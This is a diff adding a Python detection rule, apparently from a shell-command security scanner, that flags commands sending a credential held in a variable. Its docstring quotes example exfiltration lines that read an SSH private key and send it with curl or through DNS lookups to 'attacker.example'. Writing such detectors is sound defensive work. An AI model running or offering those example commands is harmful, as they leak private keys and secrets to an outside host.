@@ -1,0 +1,54 @@
+"""Credentials carried by a variable: a program that sends a variable loaded from a credential
+file or a secret store (``k=$(cat ~/.ssh/id_rsa); curl -d "$k" …``, a ``for`` loop over a key
+with ``dig $l.attacker.example``) sends the credential."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from .shell_binaries import NET_TOOLS
+from .shell_model import Program
+from .shell_rule_kit import Context, Flag, critical, program_rule
+
+__all__ = ["secret_variables_sent"]
+
+_SENDERS = NET_TOOLS | {"ping", "ping6", "traceroute", "mail", "sendmail", "mutt", "logger"}
+
+
+@program_rule
+def secret_variables_sent(prog: Program, ctx: Context) -> Iterator[Flag]:
+    if not prog.secret_vars:
+        return
+    names = "|".join(re.escape(name) for name in sorted(prog.secret_vars)[:64])
+    used = re.compile(rf"\$(?:\{{)?(?:{names})(?!\w)")
+    for cmd in prog.commands:
+        if cmd.name not in _SENDERS:
+            continue
+        words = [*_sent(cmd.argv), *(r.target for r in cmd.redirects), cmd.stdin or ""]
+        if any(used.search(w) for w in words):
+            yield critical(
+                "sends a credential held in a variable",
+                cmd.text,
+                f"{cmd.name} is given a variable loaded from a credential file or secret store.",
+                "Never send credentials; rotate them if this ran.",
+            )
+            return
+
+
+_HEADER_OPTIONS = frozenset({"-H", "--header", "--oauth2-bearer", "--proxy-header"})
+
+
+def _sent(argv: list[str]) -> list[str]:
+    """The words of ``argv`` but header values: a token in ``Authorization: Bearer $T``
+    authenticates to the host, as it was made to; in a body, a URL or a name it is sent."""
+    out: list[str] = []
+    skip = False
+    for word in argv[1:]:
+        if skip:
+            skip = False
+        elif word in _HEADER_OPTIONS:
+            skip = True
+        elif not word.startswith(("--header=", "-H")) or word == "-":
+            out.append(word)
+    return out
